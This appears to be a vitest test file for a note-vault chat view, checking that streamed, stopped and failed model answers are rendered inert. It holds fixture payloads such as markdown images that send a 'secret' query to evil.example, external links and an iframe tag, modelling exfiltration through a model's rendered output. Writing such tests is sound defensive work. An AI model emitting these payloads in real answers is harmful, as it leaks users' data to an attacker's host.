// @vitest-environment jsdom
/** The chat view never shows a live remote image or link: streamed, finished, stopped and failed answers are rendered inert, with a notice. */
import { describe, expect, it } from "vitest";
import { askLines } from "./helpers";
import { longAnswer, metrics, ndjson, routes, turnsOf, useChatView, view, waitFor, watchAnswer } from "./viewSetup";

useChatView();

describe("chat view", () => {
	it("the golden answer: raw tokens never render a remote image; done.answer replaces them, with a notice", async () => {
		const v = view();
		const watch = watchAnswer(v.contentEl);
		v.ask({ question: "and its port?" });
		const turn = await waitFor(() => turnsOf(v)[0]?.status === "done" && turnsOf(v)[0], "done");
		const body = await waitFor(() => {
			const el = v.contentEl.querySelector(".ask-vault-answer-body");
			return el?.textContent?.includes("[image removed: evil.example]") && el;
		}, "the inert answer");
		watch.stop();
		expect(turn.done?.sanitized_answer).toBe(true);
		expect(turn.text).toBe(turn.done?.answer);
		expect(body.querySelectorAll("img")).toHaveLength(0);
		expect(watch.images).toEqual([]);
		expect(watch.texts.some((t) => t.includes("evil.example/ports.png") || t.includes("!["))).toBe(false);
		const notice = v.contentEl.querySelector(".ask-vault-answer-notice");
		expect(notice?.textContent).toBe("Made inert: 1 remote image (evil.example).");
		expect(notice?.classList.contains("is-hidden")).toBe(false);
	});

	it("while tokens stream, an unfinished image is held back and a finished one shows inert", async () => {
		const tokens = ["Port 5433 [1]. ", "![x](https://evil", ".example/p.png?q=secret)", " See [site](https://evil.example)", " now."];
		const answer = "Port 5433 [1]. [image removed: evil.example] See site (`https://evil.example`) now.";
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					...tokens.map((text) => ({ type: "token", text })),
					{
						type: "done",
						answer,
						citations: [1],
						invalid_citations: [],
						no_results: false,
						sanitized_answer: true,
						neutralised: [
							{ kind: "image", target: "evil.example" },
							{ kind: "link", target: "evil.example" },
						],
						metrics,
					},
				],
				150,
				call.init.signal,
			);
		const v = view();
		const watch = watchAnswer(v.contentEl);
		v.ask({ question: "q" });
		await waitFor(() => turnsOf(v)[0]?.status === "done", "done", 5000);
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body code")?.textContent === "https://evil.example", "final render");
		watch.stop();
		expect(watch.images).toEqual([]);
		// Mid-image ("![x](https://evil") nothing of it showed; once complete it showed as removed, before done.
		expect(watch.texts).toContain("Port 5433 [1]. ");
		expect(watch.texts.some((t) => t.includes("![") || t.includes("](") || t.includes("https://evil.example/p.png"))).toBe(false);
		expect(watch.texts.some((t) => t.startsWith("Port 5433 [1]. [image removed: evil.example]") && !t.includes("site"))).toBe(true);
		const body = v.contentEl.querySelector(".ask-vault-answer-body")!;
		expect(body.textContent).toBe("Port 5433 [1]. [image removed: evil.example] See site (https://evil.example) now.");
		expect(body.querySelectorAll("a.external-link")).toHaveLength(0);
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.textContent).toBe(
			"Made inert: 1 remote image (evil.example), 1 external link (evil.example).",
		);
	});

	it("an older sidecar's answer (no sanitized_answer) is made inert here, and the notice says what", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Port 5433 [1]. ![x](https://evil.example/p.png)" },
					{ type: "done", answer: "Port 5433 [1]. ![x](https://evil.example/p.png) <iframe>", citations: [1], no_results: false, metrics },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => turnsOf(v)[0]?.status === "done", "done");
		const notice = await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-notice:not(.is-hidden)"), "notice");
		expect(notice.textContent).toBe("Made inert: 1 remote image (evil.example), 1 HTML tag (iframe).");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.includes("<iframe>"), "render");
		expect(v.contentEl.querySelectorAll(".ask-vault-answer-body img, .ask-vault-answer-body iframe")).toHaveLength(0);
	});

	it("no notice under an answer nothing was taken out of", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Port 5433 [1]." },
					{ type: "done", answer: "Port 5433 [1].", citations: [1], no_results: false, sanitized_answer: false, neutralised: [], metrics },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => turnsOf(v)[0]?.status === "done", "done");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent === "Port 5433 [1].", "render");
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.classList.contains("is-hidden")).toBe(true);
	});

	it("an error renders the sidecar's inert partial, not the raw tokens", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Postgres ![x](https://evil.example/p.png?q=secret) and" },
					{ type: "error", code: "ollama_stream_broken", message: "The model stopped mid-answer.", partial: "Postgres [image removed: evil.example] and" },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => turnsOf(v)[0]?.status === "error", "error");
		const body = await waitFor(() => {
			const el = v.contentEl.querySelector(".ask-vault-answer-body");
			return el?.textContent === "Postgres [image removed: evil.example] and" && el;
		}, "partial");
		expect(body.querySelectorAll("img")).toHaveLength(0);
		expect(turnsOf(v)[0]?.text).toBe("Postgres [image removed: evil.example] and");
	});

	it("Stop in the middle of an image keeps the raw text but shows it inert", async () => {
		routes["/api/ask"] = (call) =>
			ndjson([askLines()[0], { type: "token", text: "Port ![x](https://evil.example/p.png) then " }, ...longAnswer(40)], 20, call.init.signal);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => turnsOf(v)[0]?.text.includes("word1"), "some words");
		v.stop();
		const turn = await waitFor(() => turnsOf(v)[0]?.status === "stopped" && turnsOf(v)[0], "stopped");
		expect(turn.text).toContain("![x](https://evil.example/p.png)");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.startsWith("Port [image removed: evil.example] then"), "inert");
		expect(v.contentEl.querySelectorAll(".ask-vault-answer-body img")).toHaveLength(0);
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.textContent).toBe("Made inert: 1 remote image (evil.example).");
	});
});
